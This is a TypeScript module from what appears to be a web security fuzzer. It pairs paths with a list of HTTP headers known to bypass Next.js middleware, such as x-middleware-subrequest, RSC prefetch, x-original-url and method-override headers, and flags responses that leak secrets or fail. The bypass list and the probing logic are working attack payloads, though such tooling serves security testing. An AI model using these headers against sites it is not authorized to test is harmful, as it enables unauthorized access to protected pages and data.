import { type Answer, send } from "./fuzz/send";
import { cookieOf, type Place, secretsIn } from "./place";
import type { Role } from "./route-table";

/** Each of these headers has once bypassed a middleware, in Next or elsewhere. */
const headerTricks: Record<string, string>[] = [
  ...["middleware", "src/middleware", "pages/_middleware", "middleware:middleware:middleware"].map(
    (value) => ({ "x-middleware-subrequest": value }),
  ),
  { "x-middleware-subrequest": Array(5).fill("middleware").join(":") },
  { "x-middleware-subrequest": Array(5).fill("src/middleware").join(":") },
  { "x-middleware-subrequest-id": "x" },
  { "x-middleware-next": "1" },
  { "x-middleware-rewrite": "/" },
  { "x-middleware-invoke": "1" },
  { "x-nextjs-data": "1" },
  { "x-now-route-matches": "1=x" },
  { "x-invoke-path": "/", "x-invoke-status": "200", "x-invoke-query": "{}" },
  { "x-original-url": "/" },
  { "x-rewrite-url": "/" },
  { purpose: "prefetch" },
  { rsc: "1", "next-router-prefetch": "1", "next-router-segment-prefetch": "/_full" },
  { rsc: "1", "next-router-state-tree": "%5B%22%22%2C%7B%7D%5D" },
  { rsc: "1", "next-router-state-tree": "[" },
  { rsc: "1", "next-url": "/" },
  { "x-forwarded-host": "elsewhere.example", "x-forwarded-proto": "https" },
  { "x-http-method-override": "HEAD" },
];

export type Attempt = { path: string; headers: Record<string, string> };

export function withHeaderTricks(paths: string[]): Attempt[] {
  return paths.flatMap((path) => headerTricks.map((headers) => ({ path, headers })));
}

/** The attempts that give anything to a person without access, or at which the site fails. */
export async function findOpened(place: Place, role: Role, attempts: Attempt[]): Promise<object[]> {
  const opened: object[] = [];
  const cookie = await cookieOf(role, place);
  for (const { path, headers } of attempts) {
    const answer = await ask(path, { ...headers, cookie });
    if (isRefused({ path, headers }, answer)) continue;
    opened.push({ role, path, headers, status: answer.status, secrets: secretsIn(answer.text) });
  }
  return opened;
}

/** Follows Next's redirect to the address that its own router would have used, which contains a check value. */
async function ask(path: string, headers: Record<string, string>): Promise<Answer> {
  const answer = await raw("GET", path, headers);
  return answer.location?.includes("_rsc") ? raw("GET", answer.location, headers) : answer;
}

function isRefused({ path, headers }: Attempt, { status, text }: Answer): boolean {
  if (secretsIn(text).length > 0) return false;
  if (isFailure(status)) return false;
  // For a page, Next's own router gets a 200 that contains "not found", a redirect or almost nothing.
  const mayAnswer = path === "/" || (headers.rsc && !path.startsWith("/api/"));
  return mayAnswer || (status !== 200 && status !== 206);
}

export function raw(method: string, path: string, headers: Record<string, string>, body = "") {
  return send({ target: path, method, path, headers, body: body ? Buffer.from(body) : null });
}

function isFailure(status: number | string): boolean {
  return typeof status === "string" || status >= 500;
}
